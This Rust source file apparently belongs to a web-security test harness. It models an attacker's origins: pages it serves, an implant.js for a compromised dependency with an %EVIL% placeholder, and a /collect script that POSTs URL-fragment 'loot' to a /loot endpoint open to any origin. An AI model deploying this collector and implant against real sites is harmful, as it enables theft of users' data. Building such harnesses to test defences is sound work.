//! The attacker's own origins: pages that attack, and the place where loot arrives.

use std::collections::HashMap;
use std::sync::{Arc, Mutex, PoisonError};

use axum::Router;
use axum::extract::{Path, State};
use axum::http::{StatusCode, header};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::{get, post};
use hosting::Origin;

/// The script of a compromised dependency; it is delivered in the page's own bundle, so the page's policy applies to it.
const IMPLANT: &str = include_str!("implant.js");

/// Returns the implant that knows what to do and where the attacker listens.
pub fn implant(mode: &str, evil: &Origin) -> String {
    IMPLANT.replace("%EVIL%", evil.as_str()).replace("%MODE%", mode)
}

/// The page to which the implant carries its loot, in the fragment.
const COLLECT: &str = "<!doctype html><title>collect</title><script>\
    fetch('/loot', { method: 'POST', body: decodeURIComponent(location.hash.slice(1)) }).then(() => { document.title = 'collected'; });</script>";

/// The attacker's state; clones share it.
#[derive(Clone, Default)]
pub struct Attacker {
    pages: Arc<Mutex<HashMap<String, String>>>,
    loot: Arc<Mutex<Vec<String>>>,
}

impl Attacker {
    /// Makes an attacker without pages and loot.
    pub fn new() -> Self {
        Self::default()
    }

    /// Puts a page under `/page/NAME` of every origin of the attacker.
    pub fn publish(&self, name: &str, html: impl Into<String>) {
        self.pages.lock().unwrap_or_else(PoisonError::into_inner).insert(name.to_owned(), html.into());
    }

    /// Returns what has arrived.
    pub fn loot(&self) -> Vec<String> {
        self.loot.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    pub(crate) fn router(&self) -> Router {
        Router::new()
            .route("/page/{name}", get(page))
            .route("/loot", post(take))
            .route("/collect", get(|| async { Html(COLLECT) }))
            .route("/blank", get(|| async { Html("<!doctype html><title>blank</title>") }))
            .with_state(self.clone())
    }
}

async fn page(State(attacker): State<Attacker>, Path(name): Path<String>) -> Response {
    let pages = attacker.pages.lock().unwrap_or_else(PoisonError::into_inner);
    match pages.get(&name) {
        Some(html) => Html(html.clone()).into_response(),
        None => (StatusCode::NOT_FOUND, "no such page").into_response(),
    }
}

async fn take(State(attacker): State<Attacker>, body: String) -> Response {
    attacker.loot.lock().unwrap_or_else(PoisonError::into_inner).push(body);
    ([(header::ACCESS_CONTROL_ALLOW_ORIGIN, "*")], StatusCode::NO_CONTENT).into_response()
}
